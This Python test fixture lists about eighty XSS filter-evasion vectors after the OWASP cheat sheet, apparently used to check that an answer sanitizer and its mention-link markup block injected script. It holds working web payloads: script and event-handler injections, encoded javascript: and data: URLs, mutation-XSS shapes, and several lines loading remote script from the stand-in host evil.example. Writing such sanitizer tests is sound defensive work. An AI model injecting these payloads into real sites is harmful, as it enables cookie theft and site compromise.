"""XSS filter-evasion vectors, after the OWASP "XSS Filter Evasion Cheat Sheet", for answers.

Written out here (not fetched) as a representative few dozen: script tags in every case
and encoding, image and SVG event handlers, javascript: and data: URLs, body/iframe/
frameset/object/embed loaders, style expression and url(), meta refresh, base href,
malformed and half-open tags, entity encodings, embedded tabs, newlines and NUL bytes,
backticks, attribute and element break-outs, mutation-XSS shapes.

Where convenient a vector calls `__xss('name')`, a trap the browser test defines before
any page script, so a hit names the vector; others keep the classic `alert(...)`, which
the test traps as well. Every remote reference points at http://evil.example/ (a
reserved name that never resolves; the test also refuses any request off the page's own
origin and records it).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

EVIL = "http://evil.example"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_DATA_HTML = _b64("<script>__xss('data-html')</script>")
_DATA_SVG = _b64("<svg xmlns='http://www.w3.org/2000/svg' onload=\"__xss('data-svg')\"/>")


@dataclass(frozen=True)
class Vector:
    name: str
    text: str


VECTORS: tuple[Vector, ...] = (
    # Script tags: plain, remote, mixed case, odd separators, broken nesting.
    Vector("script", "<script>__xss('script')</script>"),
    Vector("script-remote", f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>"),
    Vector("script-mixed-case", "<ScRiPt>__xss('script-mixed-case')</sCrIpT>"),
    Vector("script-slash-attr", f'<SCRIPT/XSS SRC="{EVIL}/xss.js"></SCRIPT>'),
    Vector("script-protocol-relative", "<SCRIPT SRC=//evil.example/.j></SCRIPT>"),
    Vector("script-no-close", f"<SCRIPT SRC={EVIL}/xss.js?< B >"),
    Vector("script-extra-brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    Vector("script-null-byte", '<SCR\x00IPT>alert("XSS")</SCR\x00IPT>'),
    Vector("script-after-title", '</TITLE><SCRIPT>__xss("script-after-title");</SCRIPT>'),
    Vector("attribute-breakout", "\"><script>__xss('attribute-breakout')</script>"),
    Vector("single-quote-breakout", "'><img src=x onerror=__xss('single-quote-breakout')>"),
    Vector("paragraph-breakout", "</p></dd></dl><script>__xss('paragraph-breakout')</script>"),
    Vector("textarea-breakout", "</textarea><script>__xss('textarea-breakout')</script>"),
    Vector("malformed-img-script", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    Vector("locator", "'';!--\"<XSS>=&{()}"),
    Vector(
        "polyglot",
        "javascript:/*--></title></style></textarea></script></xmp>"
        '<svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+__xss("polyglot")//\'>',
    ),
    # Images and other elements with event handlers.
    Vector("img-onerror", "<img src=x onerror=\"__xss('img-onerror')\">"),
    Vector("img-slash-onerror", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    Vector("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    Vector(
        "img-onerror-entities",
        '<img src=x onerror="&#0000095&#0000095&#0000120&#0000115&#0000115&#0000040&#0000039&#0000101'
        '&#0000039&#0000041">',
    ),
    Vector("svg-onload", "<svg onload=__xss('svg-onload')>"),
    Vector("svg-slash-onload", "<svg/onload=alert('XSS')>"),
    Vector("body-onload", "<BODY ONLOAD=__xss('body-onload')>"),
    Vector("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    Vector("details-ontoggle", "<details open ontoggle=__xss('details-ontoggle')>"),
    Vector("video-source-onerror", "<video><source onerror=\"__xss('video-source-onerror')\"></video>"),
    Vector("anchor-onmouseover", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    Vector("input-autofocus", "<input autofocus onfocus=__xss('input-autofocus')>"),
    # javascript: URLs, plain and encoded.
    Vector("img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    Vector("img-javascript-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    Vector("img-javascript-backticks", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    Vector("img-javascript-quot", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
    Vector("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    Vector(
        "img-decimal-entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
        "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    ),
    Vector(
        "img-hex-entities-no-semicolon",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
        "&#x58&#x53&#x53&#x27&#x29>",
    ),
    Vector("img-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    Vector("img-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    Vector("img-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    Vector("img-encoded-cr", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    Vector("img-null-in-scheme", '<IMG SRC=java\x00script:alert("XSS")>'),
    Vector("img-leading-controls", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    Vector("img-half-open", "<IMG SRC=\"`javascript:alert('XSS')\""),
    Vector("a-href-javascript", "<a href=\"javascript:__xss('a-href-javascript')\">read my story</a>"),
    Vector("input-image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    Vector("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    Vector("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    Vector("iframe-javascript", "<IFRAME SRC=\"javascript:__xss('iframe-javascript');\"></IFRAME>"),
    Vector("iframe-remote-half-open", f"<iframe src={EVIL}/scriptlet.html <"),
    Vector("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    Vector("button-formaction", "<form><button formaction=javascript:__xss('button-formaction')>Send</button></form>"),
    Vector("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    # data: URIs.
    Vector("object-data-html", f'<OBJECT DATA="data:text/html;base64,{_DATA_HTML}"></OBJECT>'),
    Vector("embed-data-svg", f'<EMBED SRC="data:image/svg+xml;base64,{_DATA_SVG}" type="image/svg+xml">'),
    Vector("iframe-data-html", f'<iframe src="data:text/html;base64,{_DATA_HTML}"></iframe>'),
    # Style: expression(), url(), @import, behaviours.
    Vector("style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    Vector("style-import-remote", f"<STYLE>@import'{EVIL}/xss.css';</STYLE>"),
    Vector("style-import-escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    Vector("style-background-remote", f'<DIV STYLE="background-image: url({EVIL}/bg.png)">'),
    Vector(
        "style-list-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"
    ),
    Vector("link-stylesheet", f'<LINK REL="stylesheet" HREF="{EVIL}/xss.css">'),
    Vector("xss-behavior", '<XSS STYLE="behavior: url(xss.htc);">'),
    # Meta refresh and other loaders.
    Vector("meta-refresh-javascript", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    Vector("meta-refresh-data", f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_DATA_HTML}">'),
    Vector("meta-refresh-remote", f'<META HTTP-EQUIV="refresh" CONTENT="0; URL={EVIL}/;URL=javascript:alert(1);">'),
    Vector("img-remote", f'<img src="{EVIL}/pixel.gif" alt="">'),
    Vector("object-remote", f'<OBJECT TYPE="text/x-scriptlet" DATA="{EVIL}/scriptlet.html"></OBJECT>'),
    # Mutation XSS and parser-differential shapes.
    Vector("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=__xss('noscript-mxss')>\"></noscript>"),
    Vector("math-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=__xss('math-style-mxss')>"),
    Vector("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    Vector("comment-breakout", "--><script>__xss('comment-breakout')</script><!--"),
    Vector("cdata", "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]>"),
    Vector("utf7", "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"),
    Vector("fullwidth", "\uff1cscript\uff1e__xss('fullwidth')\uff1c/script\uff1e"),
    Vector("url-encoded", "%3Cscript%3E__xss('url-encoded')%3C/script%3E"),
    Vector("js-escape", "\\\";alert('XSS');//"),
    # Our own markup: "#00012" in an answer becomes a link, so a mention must not open a door.
    Vector("mention-script", "#00001<script>__xss('mention-script')</script>"),
    Vector("mention-in-attribute", '<a href="#00001" onclick="__xss(\'mention-in-attribute\')">#00001</a>'),
    Vector("mention-entity", "&#00060;script&#00062;__xss('mention-entity')&#00060;/script&#00062;"),
    Vector("php-echo", "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>"),
)
